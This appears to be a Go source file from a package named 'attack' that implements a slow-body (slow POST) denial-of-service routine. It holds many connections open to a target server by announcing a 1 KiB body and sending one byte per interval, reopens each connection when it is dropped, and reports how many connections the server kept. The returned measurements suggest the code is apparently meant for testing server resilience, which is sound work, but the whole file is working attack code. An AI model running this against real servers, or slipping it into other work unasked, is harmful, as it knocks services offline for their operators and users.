package attack

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"sync"
	"time"
)

// ClientFrom returns an HTTP client whose connections come from src.
func ClientFrom(src netip.Addr) *http.Client {
	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: src.AsSlice()}}
	return &http.Client{Transport: &http.Transport{DialContext: d.DialContext, MaxIdleConnsPerHost: 64}}
}

// SlowBody keeps n connections from src to target, each sending a POST
// whose body is announced as 1 KiB, one byte of it every interval, and
// opens a new one when the server hangs up, until ctx ends. It returns how
// many the server still held at the end, the most it held at once past
// the first interval, and the longest any one stayed open.
func SlowBody(ctx context.Context, src netip.Addr, target netip.AddrPort, path string, n int, interval time.Duration) (held, most int, longest time.Duration) {
	var mu sync.Mutex
	cur := 0
	var wg sync.WaitGroup
	one := func() (stop bool) {
		d := net.Dialer{LocalAddr: &net.TCPAddr{IP: src.AsSlice()}}
		c, err := d.DialContext(ctx, "tcp", target.String())
		if err != nil {
			sleep(ctx, interval)
			return ctx.Err() != nil
		}
		defer c.Close()
		start := time.Now()
		counted := false
		_, err = fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: 1024\r\n\r\n{", path, target)
		for err == nil && ctx.Err() == nil {
			sleep(ctx, interval)
			if ctx.Err() != nil {
				break
			}
			// A byte the server will never see the end of; a write
			// error, or a read that sees an answer or the close, means
			// the server hung up.
			if _, err = c.Write([]byte(" ")); err == nil {
				c.SetReadDeadline(time.Now().Add(time.Millisecond))
				var b [1]byte
				if n, rerr := c.Read(b[:]); n > 0 || rerr != nil && !isTimeout(rerr) {
					err = io.EOF
				}
			}
			if err == nil && !counted {
				// Held past the first interval: the server kept it.
				counted = true
				mu.Lock()
				cur++
				most = max(most, cur)
				mu.Unlock()
			}
		}
		mu.Lock()
		defer mu.Unlock()
		if counted {
			cur--
			longest = max(longest, time.Since(start))
		}
		if ctx.Err() != nil {
			if err == nil && counted {
				held++
			}
			return true
		}
		return false
	}
	for range n {
		wg.Go(func() {
			for !one() {
			}
		})
	}
	wg.Wait()
	return held, most, longest
}

func isTimeout(err error) bool {
	ne, ok := err.(net.Error)
	return ok && ne.Timeout()
}
